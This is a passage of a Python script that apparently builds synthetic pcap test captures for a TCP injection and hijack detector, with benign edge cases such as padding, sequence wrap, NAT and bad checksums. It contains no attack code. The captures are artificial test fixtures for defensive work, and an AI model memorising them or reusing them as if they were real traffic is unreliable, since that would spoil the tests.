    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    assert len(pkts) == 20
    return g.on_ether(pkts)


def benign_padding():
    cv = conv(50115, dport=23, ttl=(128, 50), tcp_ts=False, isn=(0x7E1F0A01, 0x23C4D5E6))
    syn = cv.seg(C, "S", dt=0, window=64240,
                 options=[("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None),
                          ("NOP", None), ("SAckOK", b"")])
    sa = cv.seg(S, "SA", dt=12 * MS, window=64240,
                options=[("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""),
                         ("NOP", None), ("WScale", 7)])
    pkts = [syn, sa, cv.seg(C, "A", dt=100 * US)]
    pkts.append(cv.seg(S, "PA", b"\r\nlogin: ", dt=15 * MS))
    pkts.append(cv.seg(C, "A", dt=40 * MS))
    echo_seq = None
    for ch in b"gue":
        pkts.append(cv.seg(C, "PA", bytes([ch]), dt=180 * MS))
        if ch == ord("u"):
            echo_seq = cv.nxt[S]
        pkts.append(cv.seg(S, "PA", bytes([ch]), dt=12 * MS))
        if ch == ord("u"):
            # The echo of "u" once more (its ACK was lost), with other padding.
            pkts.append(cv.seg(S, "PA", b"u", dt=220 * MS, seq=echo_seq))
    for ch in b"st":
        pkts.append(cv.seg(C, "PA", bytes([ch]), dt=180 * MS))
        pkts.append(cv.seg(S, "PA", bytes([ch]), dt=12 * MS))
    pkts.append(cv.seg(C, "PA", b"\r\n", dt=200 * MS))
    pkts.append(cv.seg(S, "PA", b"\r\n", dt=12 * MS))
    pkts.append(cv.seg(C, "A", dt=40 * MS))
    pkts += cv.close()
    out = []
    for i, (ts, data) in enumerate(g.on_ether(pkts), 1):
        if len(data) < 60:
            n = 60 - len(data)
            if i % 3 == 0:
                data += b"\0" * n
            else:
                data += bytes((0x5A + 37 * i + 11 * k) & 0xFF for k in range(n))
        out.append((ts, data))
    assert len(out) == 22
    return out


def benign_snaplen():
    cv = conv(50116)
    rep = reply(600)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "PA", rep, dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(S, "PA", rep, dt=212 * MS, seq=s))
    pkts.append(dupack(cv, s, s + len(rep)))
    pkts += cv.close()
    assert len(pkts) == 11
    return g.on_ether(pkts)


def benign_seq_wrap():
    cv = conv(50117, isn=(0xFFFFFF00, (1 << 32) - 701))
    rep = reply(1300)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "A", rep[:500], dt=25 * MS))
    pkts.append(cv.seg(S, "A", rep[500:1000], dt=50 * US))
    pkts.append(cv.seg(S, "PA", rep[1000:], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(S, "A", rep[500:1000], dt=212 * MS, seq=s + 500))
    pkts.append(dupack(cv, s + 500, s + 1000))
    pkts += cv.close()
    assert len(pkts) == 13
    return g.on_ether(pkts)


def benign_duplicate_capture():
    cv = conv(50118)
    rep = reply(1200)
    pkts = cv.handshake() + [request(cv)]
    pkts.append(cv.seg(S, "A", rep[:700], dt=25 * MS))
    pkts.append(cv.seg(S, "PA", rep[700:], dt=50 * US))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    out = []
    for ts, data in g.on_ether(pkts):
        out += [(ts, data), (ts + 2 * US, data)]
    assert len(out) == 20
    return out


def benign_route_change():
    cv = conv(50119)
    pkts = cv.handshake() + [request(cv)]
    pkts.append(cv.seg(S, "PA", reply(567), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(C, "PA", REQUEST2, dt=4000 * MS))
    cv.ttl = (64, 48)  # the route to the server is now two hops longer
    s = data_start(cv, S)
    rep2 = reply(480, title=b"News")
    pkts.append(cv.seg(S, "PA", rep2, dt=27 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(S, "PA", rep2, dt=216 * MS, seq=s))
    pkts.append(dupack(cv, s, s + len(rep2)))
    pkts += cv.close()
    assert len(pkts) == 14
    return g.on_ether(pkts)


def benign_nat():
    cv = conv(50120, ttl=(64, 64), tcp_ts=False)
    syn = cv.seg(C, "S", dt=0, window=64240,
                 options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1000000, 0)),
                          ("NOP", None), ("WScale", 7)])
    sa = cv.seg(S, "SA", dt=12 * MS, window=64240,
                options=[("MSS", 1460), ("NOP", None), ("NOP", None), ("SAckOK", b""),
                         ("NOP", None), ("WScale", 7)])
    pkts = [syn, sa, cv.seg(C, "A", dt=100 * US), request(cv)]
    pkts.append(cv.seg(S, "FPA", reply(567, connection=b"close"), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(C, "FA", dt=1 * MS))
    pkts.append(cv.seg(S, "A", dt=12 * MS))
    return g.on_ether(pkts)


def benign_rst_after_close():
    cv = conv(50121)
    pkts = cv.handshake() + [request(cv)]
    pkts.append(cv.seg(S, "FPA", reply(567, connection=b"close"), dt=25 * MS))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts.append(cv.seg(C, "FA", dt=1 * MS))
    last = cv.seg(S, "A", dt=12 * MS)
    pkts.append(last)
    pkts.append(last._replace(ts=last.ts + 300 * MS))
    cv.now = last.ts + 300 * MS
    pkts.append(linux_rst(cv, C, last.ip[TCP].ack))
    assert len(pkts) == 10
    return g.on_ether(pkts)


def badsum_conflict():
    cv = conv(50122)
    rep = reply(567)
    pkts = cv.handshake() + [request(cv)]
    s = data_start(cv, S)
    pkts.append(cv.seg(S, "PA", rep, dt=25 * MS))
    pkts.append(cv.seg(S, "PA", rep, dt=220 * MS, seq=s))
    pkts.append(cv.seg(C, "A", dt=100 * US))
    pkts += cv.close()
    out = g.on_ether(pkts)
    # Damage frame 5 after its checksum was computed: 8 payload bytes, 300 in.
    ts, data = out[4]
    b = bytearray(data)
    at = len(b) - len(rep) + 300
    for k in range(8):
        b[at + k] ^= 0x20
    out[4] = (ts, bytes(b))
    assert len(out) == 10
    return out


def main():
    eth = g.LINKTYPE_ETHERNET
    captures = {
        "inject-equal": inject_equal(),
        "inject-partial": inject_overlap(50101, 300, 600),
        "inject-contained": inject_overlap(50102, 200, 260),
        "inject-ahead": inject_ahead(),
        "inject-fin": inject_fin(),
        "inject-genuine-first": inject_genuine_first(),
        "inject-retransmits": inject_retransmits(),
        "inject-mirror": inject_mirror(),
        "inject-straddle": inject_straddle(),
        "hijack-synack": hijack_synack(),
        "hijack-synack-retransmit": hijack_synack_retransmit(),
        "hijack-copied-synack": hijack_copied_synack(),
        "hijack-copied-late": hijack_copied_late(),
        "inject-far-ahead": far_ahead(50127, True),
        "benign-far-ahead": far_ahead(50128, False),
        "hijack-benign-same-clock": hijack_benign_same_clock(),
        "inpath-forged": inpath_forged(),
        "inpath-forged-second": inpath_forged_second(),
        "benign-retransmit": benign_retransmit(),
        "benign-repacketised": benign_repacketised(),
        "benign-keepalive": benign_keepalive(),
        "benign-zero-window-probe": benign_zero_window_probe(),
        "benign-padding": benign_padding(),
        "benign-seq-wrap": benign_seq_wrap(),
        "benign-duplicate-capture": benign_duplicate_capture(),
        "benign-route-change": benign_route_change(),
        "benign-nat": benign_nat(),
        "benign-rst-after-close": benign_rst_after_close(),
        "badsum-conflict": badsum_conflict(),
    }
    for name, fr in captures.items():
        g.write(name + ".pcap", g.pcap(eth, fr))
    g.write("benign-snaplen.pcap", g.pcap(eth, benign_snaplen(), snaplen=96))


if __name__ == "__main__":
    main()
